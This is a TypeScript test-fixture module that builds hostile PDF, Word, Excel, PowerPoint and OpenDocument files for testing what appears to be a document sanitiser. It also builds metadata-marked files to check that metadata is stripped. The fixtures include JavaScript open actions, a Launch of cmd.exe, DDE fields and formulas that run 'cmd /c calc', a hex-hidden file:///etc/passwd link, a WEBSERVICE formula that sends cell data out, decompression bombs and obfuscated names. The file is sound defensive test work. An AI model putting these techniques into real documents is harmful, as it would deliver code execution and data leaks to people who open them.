import { deflateSync } from 'node:zlib';
import { contentTypes, type Entry, exifWithGps, photograph, zip } from './real-files.ts';

export interface Stream {
  readonly dict: string;
  readonly content: Buffer;
}

/** A PDF of these objects, numbered from 3 on; 1 is the catalog, 2 the pages. What is added to the catalog and the trailer is given as text. */
export function pdfWith(
  objects: readonly (string | Stream)[],
  { catalog = '', trailer = '', header = '%PDF-1.7\n' }: { catalog?: string; trailer?: string; header?: string } = {},
): Buffer {
  const all = [`<</Type /Catalog /Pages 2 0 R ${catalog}>>`, '<</Type /Pages /Kids [] /Count 0>>', ...objects];
  const pieces: Buffer[] = [Buffer.from(header)];
  let length = header.length;
  const rows = all.map((object, index) => {
    const content = typeof object === 'string' ? Buffer.from(object, 'latin1') : streamOf(object);
    const piece = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), content, Buffer.from('\nendobj\n')]);
    const row = `${String(length).padStart(10, '0')} 00000 n \n`;
    pieces.push(piece);
    length += piece.length;
    return row;
  });
  const table = `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows.join('')}trailer\n<</Size ${all.length + 1} /Root 1 0 R ${trailer}>>\n`;
  return Buffer.concat([...pieces, Buffer.from(`${table}startxref\n${length}\n%%EOF\n`)]);
}

const streamOf = ({ dict, content }: Stream): Buffer =>
  Buffer.concat([Buffer.from(`<<${dict} /Length ${content.length}>>\nstream\n`), content, Buffer.from('\nendstream')]);

/** Objects packed into one, which stands as a stream; those that read the file in order alone don't see them. */
export function objectStream(objects: readonly (readonly [number, string])[]): Stream {
  let head = '';
  let body = '';
  for (const [number, object] of objects) {
    head += `${number} ${body.length} `;
    body += `${object} `;
  }
  const dict = `/Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode`;
  return { dict, content: deflateSync(Buffer.from(head + body, 'latin1')) };
}

/** What a name may be written as: some of its letters by their number. */
export const escaped = (name: string): string =>
  Array.from(name, (letter, index) => (index % 2 === 0 ? `#${letter.charCodeAt(0).toString(16).padStart(2, '0')}` : letter)).join('');

const OPENS = { catalog: '/OpenAction 3 0 R' };
const BOMB = deflateSync(Buffer.alloc(90 * 1024 * 1024));

export const HOSTILE_PDFS: readonly (readonly [string, () => Buffer, string])[] = [
  ['a script that runs when it is opened', () => pdfWith(['<</S /JavaScript /JS (app.alert(1))>>'], OPENS), 'file-has-scripts'],
  ['a script by a name of numbers', () => pdfWith([`<</S /${escaped('JavaScript')} /${escaped('JS')} (x)>>`], OPENS), 'file-has-scripts'],
  [
    'a script of which the kind is an object of its own',
    () => pdfWith(['<</S 4 0 R /#4aS (x)>>', '/JavaScript'], OPENS),
    'file-has-scripts',
  ],
  [
    'a script in the tree of names',
    () => pdfWith([], { catalog: '/Names <</JavaScript <</Names [(a) <</S /JavaScript>>]>>>>' }),
    'file-has-scripts',
  ],
  ['a script among packed objects', () => pdfWith([objectStream([[9, '<</S /JavaScript /JS (x)>>']])]), 'file-has-scripts'],
  ['a script of a page', () => pdfWith(['<</Type /Page /AA <</O <</S /JavaScript /JS (x)>>>>>>']), 'file-has-scripts'],
  ['a script of a field', () => pdfWith(['<</Subtype /Widget /FT /Tx /AA <</K <</JS (x)>>>>>>']), 'file-has-scripts'],
  ['a script after another action', () => pdfWith(['<</S /GoTo /D [3 0 R] /Next <</S /JavaScript>>>>'], OPENS), 'file-has-scripts'],
  [
    'a script in an earlier revision',
    () => Buffer.concat([pdfWith(['<</S /JavaScript /JS (x)>>']), pdfWith(['null'])]),
    'file-has-scripts',
  ],
  ['a form of XFA', () => pdfWith([], { catalog: '/AcroForm <</XFA []>>' }), 'file-has-scripts'],
  ['a program to start', () => pdfWith(['<</S /Launch /F (cmd.exe)>>'], OPENS), 'file-has-actions'],
  ['a form that sends', () => pdfWith(['<</S /SubmitForm /F (https://a.example)>>'], OPENS), 'file-has-actions'],
  ['a form that reads', () => pdfWith(['<</S /ImportData /F (a.fdf)>>'], OPENS), 'file-has-actions'],
  ['another file to go to', () => pdfWith(['<</S /GoToR /F (//a.example/a.pdf) /D [0 /Fit]>>'], OPENS), 'file-has-actions'],
  ['a file within to go to', () => pdfWith(['<</S /GoToE /D [0 /Fit]>>'], OPENS), 'file-has-actions'],
  ['a link that is a script', () => pdfWith(['<</S /URI /URI (java\\script:alert\\(1\\))>>']), 'file-has-actions'],
  ['a link to a file', () => pdfWith(['<</S /URI /URI <66696c653a2f2f2f6574632f706173737764>>>']), 'file-has-actions'],
  ['an attached file', () => pdfWith([{ dict: '/Type /EmbeddedFile', content: Buffer.from('MZ') }]), 'file-has-attachments'],
  [
    'a file that a note carries',
    () => pdfWith(['<</Subtype /FileAttachment /FS 4 0 R>>', '<</Type /Filespec /F (a)>>']),
    'file-has-attachments',
  ],
  ['a tree of attached files', () => pdfWith([], { catalog: '/Names <</EmbeddedFiles <</Names []>>>>' }), 'file-has-attachments'],
  ['rich media', () => pdfWith(['<</Subtype /RichMedia>>']), 'file-has-attachments'],
  ['a film', () => pdfWith(['<</Subtype /Movie /Movie <</F (a)>>>>']), 'file-has-attachments'],
  ['a sound', () => pdfWith(['<</Subtype /Sound>>']), 'file-has-attachments'],
  ['a body', () => pdfWith(['<</Subtype /3D>>']), 'file-has-attachments'],
  ['a stream from elsewhere', () => pdfWith([{ dict: '/F (//a.example/x)', content: Buffer.alloc(0) }]), 'file-has-remote-parts'],
  ['a password', () => pdfWith(['<</Filter /Standard>>'], { trailer: '/Encrypt 3 0 R' }), 'file-is-encrypted'],
  ['something before its header', () => Buffer.concat([Buffer.from('MZ\0'), pdfWith([])]), 'file-type-not-accepted'],
  ['something behind its end', () => Buffer.concat([pdfWith([]), Buffer.from('<script>1</script>')]), 'file-is-two-things'],
  [
    'something behind its end, and an end',
    () => Buffer.concat([pdfWith([]), Buffer.from('<script>1</script>%%EOF')]),
    'file-is-two-things',
  ],
  ['an archive behind its end', () => Buffer.concat([pdfWith([]), zip([]), Buffer.from('%%EOF')]), 'file-is-two-things'],
  [
    'a stream of objects that is a bomb',
    () => pdfWith([{ dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', content: BOMB }]),
    'file-unpacks-too-large',
  ],
  [
    'bombs within bombs, each within the limit',
    () => pdfWith(Array.from({ length: 6 }, () => ({ dict: '/Filter [/FlateDecode /FlateDecode]', content: deflateSync(BOMB) }))),
    'file-unpacks-too-large',
  ],
  [
    'more objects than any file has',
    () => pdfWith([objectStream([]), { dict: '/Type /ObjStm /N 9999999 /First 0', content: Buffer.alloc(9) }]),
    'file-too-complex',
  ],
  [
    'a picture of 400 megapixels',
    () => pdfWith([{ dict: '/Subtype /Image /Width 20000 /Height 20000', content: Buffer.alloc(1) }]),
    'file-picture-too-large',
  ],
];

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const OOXML = 'application/vnd.openxmlformats-officedocument';
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);

export const docxWith = (body: string, ...more: Entry[]): Buffer =>
  zip([contentTypes(), { name: 'word/document.xml', content: `<w:document ${W}><w:body>${body}</w:body></w:document>` }, ...more]);
export const xlsxWith = (...more: Entry[]): Buffer =>
  zip([contentTypes(`${OOXML}.spreadsheetml.sheet.main+xml`), { name: 'xl/workbook.xml', content: '<workbook/>' }, ...more]);
export const pptxWith = (...more: Entry[]): Buffer =>
  zip([contentTypes(`${OOXML}.presentationml.presentation.main+xml`), { name: 'ppt/presentation.xml', content: '<p/>' }, ...more]);
export const odfWith = (kind: 'text' | 'spreadsheet', content: string, ...more: Entry[]): Buffer =>
  zip([
    { name: 'mimetype', content: `application/vnd.oasis.opendocument.${kind}`, stored: true },
    { name: 'META-INF/manifest.xml', content: '<manifest/>' },
    { name: 'content.xml', content: `<office:document-content ${ODF}>${content}</office:document-content>` },
    ...more,
  ]);
const ODF = ['office', 'text', 'table', 'draw', 'script']
  .map((name) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name}:1.0"`)
  .concat('xmlns:xlink="http://www.w3.org/1999/xlink"')
  .join(' ');

const relation = (type: string, target: string, mode = ' TargetMode="External"'): Entry => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships xmlns="${RELATIONS}"><Relationship Id="r1" Type="${TYPES}/${type}" Target="${target}"${mode}/></Relationships>`,
});
const run = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const turn = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const sheet = (cells: string): Entry => ({
  name: 'xl/worksheets/sheet1.xml',
  content: `<worksheet><sheetData><row><c>${cells}</c></row></sheetData></worksheet>`,
});

export const HOSTILE_OFFICE_FILES: readonly (readonly [string, () => Buffer, string])[] = [
  ['a template from elsewhere', () => docxWith('', relation('attachedTemplate', 'https://a.example/t.dotm')), 'file-has-remote-parts'],
  ['a picture from elsewhere', () => docxWith('', relation('image', 'https://a.example/a.png')), 'file-has-remote-parts'],
  ['a page within from elsewhere', () => docxWith('', relation('frame', 'https://a.example/')), 'file-has-remote-parts'],
  ['an address that isn’t said to be outside', () => docxWith('', relation('image', '\\\\a.example\\a.png', '')), 'file-has-remote-parts'],
  ['an object of OLE from elsewhere', () => docxWith('', relation('oleObject', 'https://a.example/a.doc')), 'file-has-attachments'],
  ['a link that is a script', () => docxWith('', relation('hyperlink', 'java&#x73;cript:alert(1)')), 'file-has-actions'],
  ['a link to a file', () => docxWith('', relation('hyperlink', 'file:///c:/windows/calc.exe')), 'file-has-actions'],
  ['a field of DDE', () => docxWith(`<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot; "/>`), 'file-has-data-links'],
  [
    'DDE over several runs',
    () => docxWith(`<w:p>${turn('begin')}${run('D')}${run('DE')}${run('AUTO c:\\cmd.exe')}${turn('end')}</w:p>`),
    'file-has-data-links',
  ],
  [
    'DDE within another field',
    () => docxWith(`${turn('begin')}${run(' IF 1=1 ')}${turn('begin')}${run('DDE x y')}${turn('end')}${turn('end')}`),
    'file-has-data-links',
  ],
  [
    'DDE by the numbers of its letters',
    () => docxWith(`${turn('begin')}${run('QUOTE 68 68 69 65 85 84 79')}${turn('end')}`),
    'file-has-data-links',
  ],
  [
    'a picture by a field',
    () => docxWith(`<w:fldSimple w:instr='INCLUDEPICTURE "https://a.example/a.png" \\d'/>`),
    'file-has-remote-parts',
  ],
  ['an object within', () => docxWith('', { name: 'word/embeddings/oleObject1.bin', content: OLE }), 'file-has-attachments'],
  ['an object that says it is a picture', () => docxWith('', { name: 'word/media/image1.png', content: OLE }), 'file-has-attachments'],
  ['a file within the file', () => docxWith('', { name: 'word/embeddings/a.xlsx', content: xlsxWith() }), 'file-has-attachments'],
  [
    'macros under another name',
    () => docxWith('', { name: 'word/settings.dat', content: Buffer.concat([OLE, Buffer.from('_VBA_PROJECT', 'utf16le')]) }),
    'file-has-macros',
  ],
  ['a relation to macros under another name', () => docxWith('', relation('vbaProject', 'theme.bin', '')), 'file-has-macros'],
  [
    'a type of macros',
    () =>
      zip([
        {
          name: '[Content_Types].xml',
          content: `<Types><Override PartName="/a" ContentType="${OOXML}.wordprocessingml.document.main+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
        },
        { name: 'word/document.xml', content: '<a/>' },
      ]),
    'file-has-macros',
  ],
  ['a control', () => docxWith('<w:object><w:control/></w:object>'), 'file-has-macros'],
  [
    'a ribbon that calls',
    () => docxWith('', { name: 'customUI/a.xml', content: '<c xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="x"/>' }),
    'file-has-macros',
  ],
  [
    'an entity that grows',
    () => docxWith('', { name: 'word/a.xml', content: '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>' }),
    'file-damaged',
  ],
  [
    'a part in another encoding',
    () => docxWith('', { name: 'word/a.xml', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }),
    'file-damaged',
  ],
  [
    'a workbook from elsewhere',
    () => xlsxWith({ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink><externalBook/></externalLink>' }),
    'file-has-remote-parts',
  ],
  [
    'a link of DDE in a workbook',
    () => xlsxWith({ name: 'xl/a.xml', content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }),
    'file-has-data-links',
  ],
  ['a formula that asks a program', () => xlsxWith(sheet(`<f>cmd|'/c calc'!A0</f>`)), 'file-has-data-links'],
  ['a formula that asks a server', () => xlsxWith(sheet('<f>WEBSERVICE("https://a.example/"&amp;A1)</f>')), 'file-has-remote-parts'],
  ['a formula that is a link of script', () => xlsxWith(sheet('<f>HYPERLINK("java"&amp;"script:x")</f>')), 'file-has-actions'],
  [
    'a connection',
    () => xlsxWith({ name: 'xl/connections.xml', content: '<connections><connection/></connections>' }),
    'file-has-data-links',
  ],
  [
    'a sheet of macros',
    () => xlsxWith({ name: 'xl/a.xml', content: '<definedNames><definedName xlm="1">A</definedName></definedNames>' }),
    'file-has-macros',
  ],
  [
    'a slide that starts a program',
    () => pptxWith({ name: 'ppt/slides/slide1.xml', content: '<sld><hlinkClick action="ppaction://program?program=cmd"/></sld>' }),
    'file-has-actions',
  ],
  ['a script in a text', () => odfWith('text', '<office:scripts><office:script script:language="x"/></office:scripts>'), 'file-has-macros'],
  ['an event of a text', () => odfWith('text', '<script:event-listener script:event-name="dom:load"/>'), 'file-has-macros'],
  ['a link to a macro', () => odfWith('text', '<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>'), 'file-has-macros'],
  [
    'a picture of a text from elsewhere',
    () => odfWith('text', '<draw:image xlink:href="https://a.example/a.png"/>'),
    'file-has-remote-parts',
  ],
  ['a section of another file', () => odfWith('text', '<text:section-source xlink:href="../a.odt"/>'), 'file-has-remote-parts'],
  [
    'DDE of a table',
    () => odfWith('spreadsheet', '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;)"/>'),
    'file-has-data-links',
  ],
  ['a source of DDE', () => odfWith('spreadsheet', '<office:dde-source office:dde-application="x"/>'), 'file-has-data-links'],
  ['an object of a text', () => odfWith('text', '', { name: 'Object 1', content: OLE }), 'file-has-attachments'],
];

/** A mark wherever a program writes who made a file, and where. */
export const MARK = 'planted-mark';
const jpeg = photograph();

export const MARKED_PDF = (): Buffer =>
  pdfWith(
    [
      `<</Author (${MARK}) /Producer (${MARK}) /Title (${MARK})>>`,
      { dict: '/Type /Metadata /Subtype /XML', content: Buffer.from(`<x>${MARK}</x>`) },
      {
        dict: '/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode /Metadata 4 0 R',
        content: jpeg,
      },
      {
        dict: '/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter [/FlateDecode /DCTDecode]',
        content: deflateSync(jpeg),
      },
      `<</Subtype /Text /Rect [0 0 1 1] /T (${MARK}) /Contents (seen) /M (D:2026) /NM (${MARK})>>`,
      `(${MARK}, which nobody names)`,
      { dict: '/N 3 /Filter /FlateDecode', content: deflateSync(markedProfile()) },
      {
        dict: '',
        content: Buffer.concat([
          Buffer.from('q BI /W 1 /H 1 /BPC 8 /CS /G /F /DCT ID '),
          jpeg,
          Buffer.from('\nEI Q (seen in the drawing) Tj'),
        ]),
      },
      objectStream([
        [
          20,
          `<</PieceInfo <</A <</Private (${MARK})>>>> /XObject [5 0 R 6 0 R] /Annots [7 0 R] /ColorSpace [/ICCBased 9 0 R] /Contents 10 0 R>>`,
        ],
      ]),
    ],
    { catalog: '/Metadata 4 0 R /Kept 20 0 R', trailer: `/Info 3 0 R /ID [(${MARK}) (${MARK})]` },
  );

export const MARKED_DOCX = (): Buffer =>
  docxWith(
    `<w:ins w:author="${MARK}" w:date="2026-01-01T00:00:00Z"><w:r w:rsidR="00AB12CD"><w:t>seen</w:t></w:r></w:ins><!-- ${MARK} -->`,
    {
      name: 'docProps/core.xml',
      content: `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"><a>${MARK}</a></cp:coreProperties>`,
    },
    {
      name: 'docProps/app.xml',
      content: `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Company>${MARK}</Company></Properties>`,
    },
    {
      name: 'docProps/custom.xml',
      content: `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><a>${MARK}</a></Properties>`,
    },
    {
      name: 'word/comments.xml',
      content: `<w:comments ${W}><w:comment w:id="0" w:author="${MARK}" w:initials="${MARK}"><w:p/></w:comment></w:comments>`,
    },
    { name: 'word/media/image1.jpeg', content: jpeg },
  );

export const MARKED_ODT = (): Buffer =>
  odfWith(
    'text',
    `<dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">${MARK}</dc:creator><text:p>seen</text:p>`,
    { name: 'meta.xml', content: `<office:document-meta ${ODF}><office:meta>${MARK}</office:meta></office:document-meta>` },
    { name: 'Pictures/a.jpg', content: jpeg },
  );

/** A colour profile whose texts say who made it: for which device, when, and in which right (ISO 15076-1). */
export function markedProfile(): Buffer {
  const languages = Buffer.concat([
    Buffer.from('mluc\0\0\0\0\0\0\0\x01\0\0\0\x0cenUS', 'latin1'),
    bigEndian(MARK.length),
    bigEndian(28),
    Buffer.from(MARK),
  ]);
  const tags = [
    ['desc', languages],
    ['cprt', Buffer.from(`text\0\0\0\0${MARK}\0`, 'latin1')],
    ['wtpt', Buffer.from('XYZ \0\0\0\0seen white!!', 'latin1')],
    ['MSft', Buffer.from(`what a maker keeps for itself: ${MARK}`)],
  ] as const;
  const head = Buffer.alloc(128);
  head.write('acsp', 36, 'latin1');
  head.write(MARK, 80, 'latin1');
  let at = head.length + 4 + 12 * tags.length;
  const entries = tags.map(([name, data]) => {
    const entry = Buffer.concat([Buffer.from(name, 'latin1'), bigEndian(at), bigEndian(data.length)]);
    at += data.length;
    return entry;
  });
  const profile = Buffer.concat([head, bigEndian(tags.length), ...entries, ...tags.map(([, data]) => data), Buffer.from(MARK)]);
  profile.writeUInt32BE(profile.length, 0);
  return profile;
}

function bigEndian(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** What of the place a photograph says. */
export const PLACE = exifWithGps(1).subarray(80).toString('latin1');

/** A PDF with a signature over all of it but the signature itself, as a program that signs writes it; its description says who made it. */
export function signedPdf(...more: string[]): Buffer {
  const place = `<${'ab'.repeat(64)}>`;
  const range = '[0 0000000000 0000000000 0000000000]';
  const unsigned = pdfWith(
    [
      `<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange ${range} /Contents ${place}>>`,
      `<</Author (${MARK})>>`,
      ...more,
    ],
    { catalog: '/AcroForm <</SigFlags 3 /Fields [<</FT /Sig /T (Signature) /V 3 0 R>>]>>', trailer: '/Info 4 0 R' },
  ).toString('latin1');
  const from = unsigned.indexOf(place);
  const to = from + place.length;
  const numbers = [from, to, unsigned.length - to].map((number) => String(number).padStart(10, '0'));
  return Buffer.from(unsigned.replace(range, `[0 ${numbers.join(' ')}]`), 'latin1');
}
